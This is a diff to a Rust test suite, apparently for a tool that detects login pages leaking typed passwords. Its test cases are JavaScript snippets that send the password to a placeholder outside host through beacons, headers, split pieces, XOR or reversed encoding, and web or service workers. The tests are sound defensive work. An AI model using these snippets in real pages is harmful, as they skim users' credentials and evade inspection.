@@ -20,6 +20,14 @@ fn on_submit(what: &str) -> String {
     "const data = new URLSearchParams({ word }); navigator.sendBeacon('{elsewhere}/x', data);"
 )]
 #[case::in_an_address("new Image().src = '{elsewhere}/x?' + encodeURIComponent(word);")]
+#[case::in_a_header("fetch('{elsewhere}/x', { headers: { 'x-word': word } });")]
+#[case::in_three_pieces(
+    "navigator.sendBeacon('{elsewhere}/x', word.slice(0, 8));\
+     navigator.sendBeacon('{elsewhere}/x', word.slice(8, 16));\
+     navigator.sendBeacon('{elsewhere}/x', word.slice(16));"
+)]
+#[case::from_its_end("navigator.sendBeacon('{elsewhere}/x', [...btoa(word)].reverse().join(''));")]
+#[case::by_another_window("open('{elsewhere}/x#' + word);")]
 #[case::by_a_redirect_of_the_org("event.target.action = '/away?{elsewhere}/login';")]
 #[tokio::test]
 async fn what_was_typed_is_seen_to_have_gone_elsewhere(#[case] what: &str) {
@@ -27,6 +35,44 @@ async fn what_was_typed_is_seen_to_have_gone_elsewhere(#[case] what: &str) {
     let visited = org.sign_in().await;
     assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
     assert_eq!(visited.passwords_submitted, 1);
+}
+
+/// An address ends in logs, of the org as well.
+#[tokio::test]
+async fn what_was_typed_is_seen_in_an_address_of_the_org() {
+    let org = Hostile::showing(&on_submit("fetch('/x?' + encodeURIComponent(word));")).await;
+    let visited = org.sign_in().await;
+    let found = Vec::from_iter(&visited.sent_elsewhere);
+    assert!(matches!(found[..], [one] if one.starts_with("an address of http://127.0.0.1")));
+}
+
+/// What nobody can read, and what the browser does not tell of, is said.
+#[rstest]
+#[case::in_a_form_of_its_own(
+    "navigator.sendBeacon('{elsewhere}/x', new Uint8Array([...word].map((one) => \
+     one.charCodeAt(0) ^ 85)));",
+    "http://localhost:"
+)]
+#[case::by_a_worker(
+    "const worker = new Worker(URL.createObjectURL(new Blob([\
+     `onmessage = ({ data }) => fetch('{elsewhere}/x?' + data)`]))); worker.postMessage(word);",
+    "a worker of http://127.0.0.1:"
+)]
+#[case::by_a_worker_that_outlives_the_page(
+    "event.preventDefault(); const { serviceWorker } = navigator;\
+     serviceWorker.register('/worker').then(() => serviceWorker.ready).then(({ active }) => {\
+     active.postMessage(word); event.target.submit() });",
+    "a worker of http://127.0.0.1:"
+)]
+#[tokio::test]
+async fn what_cannot_be_read_is_told(#[case] what: &str, #[case] told: &str) {
+    let org = Hostile::showing(&on_submit(what)).await;
+    let visited = org.sign_in().await;
+    assert!(
+        visited.unread.iter().any(|one| one.starts_with(told)),
+        "{:?}",
+        visited.unread
+    );
 }
 
 /// A form is seen as it is sent, whatever the page makes of it then.
@@ -84,4 +130,6 @@ async fn nothing_else_is_held_against_a_page(#[case] what: &str) {
         "{:?}",
         visited.sent_elsewhere
     );
+    let is_quiet = !what.contains("{elsewhere}");
+    assert_eq!(visited.unread.is_empty(), is_quiet, "{:?}", visited.unread);
 }
